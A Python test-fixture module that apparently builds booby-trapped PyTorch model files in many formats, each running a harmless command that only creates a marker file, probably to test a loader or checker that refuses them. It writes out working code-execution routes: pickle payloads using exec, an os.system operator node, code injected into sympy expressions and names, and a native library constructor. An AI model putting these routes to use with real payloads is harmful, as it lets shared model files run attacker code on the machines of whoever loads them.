"""Files that run a harmless command of their maker's where a loader lets them: each leaves a marker file."""

from __future__ import annotations

import io
import json
import pickle
import shutil
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch
from torch import nn

SIDE = 16
"""Height and width of the images that every network here takes."""
MODEL = "models/model.json"
WEIGHTS = "data/weights/"
CONSTANTS = "data/constants/"
SAMPLES = "data/sample_inputs/model.pt"

Members = dict[str, bytes]
Build = Callable[[Path, Path], None]
"""Writes a file at the first path that, once it runs, makes the second path exist."""


class Net(nn.Module):
    """A network as small as can be, with everything that an archive of a classifier holds."""

    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.conv = nn.Conv2d(3, 4, 3, padding=1)
        self.norm = nn.BatchNorm2d(4)
        self.head = nn.Linear(4, 5)
        self.register_buffer("scale", torch.tensor(2.0), persistent=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(torch.relu_(self.norm(self.conv(x * self.scale))).mean((2, 3)))


class Command:
    """What runs a command of its maker's when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({self.marker!r}, 'w').close()",)


def python_text(marker: Path) -> str:
    """Returns an expression that makes the marker exist and gives a number."""
    return f"(open({str(marker)!r}, 'w').close() or 1)"


def pickled(marker: Path) -> bytes:
    """Returns what ``torch.save`` writes of a command."""
    stream = io.BytesIO()
    torch.save({"state": Command(marker)}, stream)
    return stream.getvalue()


def benign_members(net: nn.Module | None = None, **options: Any) -> Members:
    """Returns the members of an archive that ``torch.export.save`` writes, by their names below the archive's own."""
    options.setdefault("dynamic_shapes", ({0: torch.export.Dim("batch")},))
    program = torch.export.export((net or Net()).eval(), (torch.rand(2, 3, SIDE, SIDE),), **options)
    stream = io.BytesIO()
    torch.export.save(program, stream)
    with zipfile.ZipFile(stream) as archive:
        return {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}


def write_members(path: Path, members: Mapping[str, bytes], folder: str = "net/") -> None:
    """Writes an archive, stored as torch stores it."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(folder + name, content)


def program_of(members: Members) -> dict[str, Any]:
    """Returns the program of an archive as JSON values."""
    program: dict[str, Any] = json.loads(members[MODEL])
    return program


def change_program(change: Callable[[dict[str, Any], Path], None]) -> Build:
    """Returns what writes an archive whose program was changed."""

    def build(path: Path, marker: Path) -> None:
        members = benign_members()
        program = program_of(members)
        change(program, marker)
        write_members(path, {**members, MODEL: json.dumps(program).encode()})

    return build


def change_members(change: Callable[[Members, Path], None]) -> Build:
    """Returns what writes an archive whose members were changed."""

    def build(path: Path, marker: Path) -> None:
        members = benign_members()
        change(members, marker)
        write_members(path, members)

    return build


def pickle_payload(folder: str, kind: str) -> Build:
    """Returns what writes an archive one of whose weights or constants is pickled."""

    def change(members: Members, marker: Path) -> None:
        name = f"{folder}model_{kind}s_config.json"
        config = json.loads(members[name])
        first = next(iter(config["config"].values()))
        first["use_pickle"] = True
        members[folder + first["path_name"]] = pickled(marker)
        members[name] = json.dumps(config).encode()

    return change_members(change)


def opaque_constant(members: Members, marker: Path) -> None:
    """A constant that is Python's own pickle."""
    payload = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    name = f"{CONSTANTS}model_constants_config.json"
    config = json.loads(members[name])
    config["config"]["evil"] = payload
    members[name] = json.dumps(config).encode()
    members[CONSTANTS + "opaque_obj_0"] = pickle.dumps(Command(marker))


def script_constant(members: Members, marker: Path) -> None:
    """A constant that is an object of TorchScript, whose ``__setstate__`` runs when it is read."""
    opaque_constant(members, marker)
    name = f"{CONSTANTS}model_constants_config.json"
    members[name] = members[name].replace(b"opaque_obj_0", b"custom_obj_0")
    members[CONSTANTS + "custom_obj_0"] = torch._C._pickle_save(torch.jit.script(Setter(str(marker)))._c)


def legacy_weights(members: Members, marker: Path) -> None:
    """Weights as torch 2.8 kept them."""
    members[WEIGHTS + "model.pt"] = pickled(marker)


def legacy_constants(members: Members, marker: Path) -> None:
    """Constants as torch 2.8 kept them."""
    members[CONSTANTS + "model.pt"] = pickled(marker)


def sample_inputs(members: Members, marker: Path) -> None:
    """Sample inputs that are more than tensors."""
    members[SAMPLES] = pickled(marker)


def old_format(path: Path, marker: Path) -> None:
    """The format of torch 2.7."""
    members = benign_members()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("version", "8.20")
        archive.writestr("serialized_exported_program.json", members[MODEL])
        archive.writestr("serialized_state_dict.pt", pickled(marker))
        archive.writestr("serialized_constants.pt", b"")
        archive.writestr("serialized_example_inputs.pt", b"")


def first_size(program: dict[str, Any]) -> dict[str, Any]:
    """Returns a size that is an expression: the batch of the image."""
    sizes: dict[str, Any] = program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]
    return sizes


def symbolic_size(program: dict[str, Any], marker: Path) -> None:
    """A size that sympy evaluates."""
    first_size(program)["as_expr"]["expr_str"] = python_text(marker)


def symbol_name(program: dict[str, Any], marker: Path) -> None:
    """The same, within the form that torch writes."""
    expression = f"Symbol('s77', positive=True, integer={python_text(marker)})"
    first_size(program)["as_expr"]["expr_str"] = expression


def guard_code(program: dict[str, Any], marker: Path) -> None:
    """A condition on the input, as Python text."""
    program["guards_code"] = [python_text(marker)]


def operator_of_python(program: dict[str, Any], marker: Path) -> None:
    """An operator that is any function below ``torch``."""
    node = program["graph_module"]["graph"]["nodes"][0]
    called = json.loads(json.dumps(node))
    called |= {
        "target": "torch.serialization.os.system",
        "inputs": [{"name": "", "arg": {"as_string": f"touch '{marker}'"}, "kind": 1}],
        "outputs": [{"as_none": True}],
        "name": "evil",
    }
    program["graph_module"]["graph"]["nodes"].insert(0, called)


def operator_that_writes(program: dict[str, Any], marker: Path) -> None:
    """An operator of aten that creates a file."""
    graph = program["graph_module"]["graph"]
    called = json.loads(json.dumps(graph["nodes"][0]))
    called |= {
        "target": "torch.ops.aten.from_file.default",
        "inputs": [
            {"name": "filename", "arg": {"as_string": str(marker)}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
            {"name": "size", "arg": {"as_int": 4}, "kind": 1},
        ],
        "outputs": [{"as_tensor": {"name": "evil"}}],
        "name": "evil",
    }
    graph["tensor_values"]["evil"] = json.loads(json.dumps(graph["tensor_values"]["b_norm_running_mean"]))
    graph["nodes"].insert(0, called)


def name_in_generated_code(program: dict[str, Any], marker: Path) -> None:
    """A name that torch writes into the Python code that it makes of a graph."""
    text = json.dumps(program["graph_module"]).replace('"x"', json.dumps(f"x={python_text(marker)}"))
    program["graph_module"] = json.loads(text)


def argument_name(program: dict[str, Any], marker: Path) -> None:
    """The same, of an argument of the original function."""
    signature = program["graph_module"]["module_call_graph"][0]["signature"]
    signature["forward_arg_names"] = [f"x={python_text(marker)}"]


def weight_name(members: Members, marker: Path) -> None:
    """The same, of a weight."""
    name = f'conv.w"){python_text(marker)}("'
    for member in (MODEL, f"{WEIGHTS}model_weights_config.json"):
        text = members[member].decode().replace('"conv.weight"', json.dumps(name))
        members[member] = text.encode()


def module_of_an_enum(program: dict[str, Any], marker: Path) -> None:
    """A key of a mapping that names a module to import: here one beside the marker."""
    module = marker.parent / f"evil_{marker.stem}.py"
    module.write_text(f"open({str(marker)!r}, 'w').close()\n")
    context = json.dumps({"__enum__": True, "fqn": f"{module.stem}:A", "name": "B"})
    spec = [1, {"type": "builtins.dict", "context": context, "children_spec": []}]
    program["graph_module"]["module_call_graph"][0]["signature"]["in_spec"] = json.dumps(spec)


def native_library(path: Path, marker: Path) -> None:
    """A compiled program, which runs as soon as it is opened."""
    compiler = shutil.which("cc")
    assert compiler is not None
    folder = marker.parent / f"library_{marker.stem}"
    folder.mkdir()
    text = json.dumps(str(marker))
    (folder / "evil.c").write_text(
        f'#include <stdio.h>\n__attribute__((constructor)) void run(void) {{ fclose(fopen({text}, "w")); }}\n'
    )
    subprocess.run([compiler, "-shared", "-fPIC", "-o", "evil.so", "evil.c"], cwd=folder, check=True)
    members = benign_members()
    members["data/aotinductor/model/evil.wrapper.so"] = (folder / "evil.so").read_bytes()
    members["data/aotinductor/model/evil.wrapper_metadata.json"] = b'{"AOTI_DEVICE_KEY": "cpu"}'
    write_members(path, members, "archive/")


class Setter(nn.Module):
    """A module of TorchScript that writes a file when it is read."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.mean((2, 3))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.marker, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.marker = state[0]
        self.training = state[1]
        torch.save(torch.zeros(1), self.marker)


class Writer(nn.Module):
    """A module of TorchScript that writes a file when it runs."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.marker = marker
        self.net = Net()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.save(x, self.marker)
        return self.net(x)


def script_at_load(path: Path, marker: Path) -> None:
    """TorchScript that writes while it is read."""
    torch.jit.script(Setter(str(marker))).save(str(path))


def script_at_run(path: Path, marker: Path) -> None:
    """TorchScript that writes when it runs."""
    torch.jit.script(Writer(str(marker)).eval()).save(str(path))


def pickled_module(path: Path, marker: Path) -> None:
    """A ``torch.save`` file of today."""
    path.write_bytes(pickled(marker))


def pickled_module_of_old(path: Path, marker: Path) -> None:
    """A ``torch.save`` file from before torch 1.6: bare pickles, one after the other."""
    torch.save({"state": Command(marker)}, path, _use_new_zipfile_serialization=False)


def pickle_in_tar(path: Path, marker: Path) -> None:
    """A ``torch.save`` file from before torch 0.1.10: a tar of pickles."""
    data = pickle.dumps(Command(marker))
    with tarfile.open(path, "w") as archive:
        entry = tarfile.TarInfo("storages")
        entry.size = len(data)
        archive.addfile(entry, io.BytesIO(data))


LATENT = frozenset({"constant of TorchScript", "function of Python", "name of an argument", "name of a weight"})
"""Routes on which torch 2.13 itself stumbles before the command runs; they are refused as any other."""
READABLE = frozenset({"sample inputs"})
"""Routes that a checked copy leaves out, so that the file is read without consent."""
PT2: Mapping[str, Build] = {
    "pickled weights": pickle_payload(WEIGHTS, "weight"),
    "pickled constants": pickle_payload(CONSTANTS, "constant"),
    "opaque constant": change_members(opaque_constant),
    "constant of TorchScript": change_members(script_constant),
    "legacy weights": change_members(legacy_weights),
    "legacy constants": change_members(legacy_constants),
    "sample inputs": change_members(sample_inputs),
    "old format": old_format,
    "symbolic size": change_program(symbolic_size),
    "symbolic size within its form": change_program(symbol_name),
    "guard code": change_program(guard_code),
    "native library": native_library,
    "function of Python": change_program(operator_of_python),
    "operator that writes": change_program(operator_that_writes),
    "name of a value": change_program(name_in_generated_code),
    "name of an argument": change_program(argument_name),
    "name of a weight": change_members(weight_name),
    "enumeration": change_program(module_of_an_enum),
}
"""Routes of a ``torch.export`` archive, in torch 2.13."""
OTHERS: Mapping[str, Build] = {
    "TorchScript at load": script_at_load,
    "TorchScript at run": script_at_run,
    "pickled module": pickled_module,
    "pickled module of old": pickled_module_of_old,
    "pickle in a tar": pickle_in_tar,
}
"""Routes of every other kind of torch's."""
ROUTES: Mapping[str, Build] = {**PT2, **OTHERS}
